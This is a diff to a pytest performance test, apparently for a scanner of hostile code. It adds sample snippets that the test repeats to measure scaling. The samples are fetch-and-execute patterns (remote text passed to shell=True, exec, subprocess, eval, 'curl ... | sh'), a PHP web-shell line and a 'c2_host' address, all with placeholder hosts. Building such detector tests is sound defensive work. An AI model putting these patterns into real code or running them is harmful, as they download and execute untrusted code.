@@ -79,6 +79,15 @@ UNITS = {
     "packages by calls": "pip.main(['install', a{n}])\n",
     "requests into shells": "system($_GET['c{n}']);\n",
     "addresses of their own text": "node --import=data:text/javascript,{n} a\n",
+    "functions that hand on": "def f{n}(x):\n    run(x, shell=True)\n\ndef g{n}():\n    y = requests.get(u).text\n    f{n}(y)\n",
+    "functions of one name": "def f(x):\n    y = requests.get(x).text\n    f(y)\n    exec(y)\n",
+    "lists of programs": 'c = ["ls", requests.get(u).text]\nc.append(c)\nsubprocess.run(c)\n',
+    "strings of several lines": "x=\"$(curl x)\n$x\n\"; perl -ne '\n' $x\n",
+    "examples in two languages": "```python\na{n} = requests.get(u)\n```\n```js\neval(a{n})\n```\n",
+    "a long paragraph": "word\n",
+    "blocks behind paragraphs": "word\nword\n\n    curl x{n} | sh\n",
+    "listings of AsciiDoc": "[source,sh]\n----\ncurl -o f{n} x.example\n./f{n}\n----\n",
+    "bare addresses": "connect to 9.9.{n}.9 c2_host = '9.9.{n}.9' ",
     "several words of make": "A{n}   := curl -s\n\t$(A{n}) x | sh\n",
 }
 
@@ -109,7 +118,7 @@ def text_of(unit: str, size: int) -> str:
 
 
 @pytest.mark.slow
-@pytest.mark.parametrize("path", ["SKILL.md", "a.sh"])
+@pytest.mark.parametrize("path", ["SKILL.md", "a.sh", "a.py", "a.adoc"])
 @pytest.mark.parametrize("unit", UNITS.values(), ids=UNITS)
 def test_four_times_the_text_is_about_four_times_the_work(unit: str, path: str) -> None:
     small, large = (text_of(unit, size) for size in (SMALL, SMALL * TIMES))
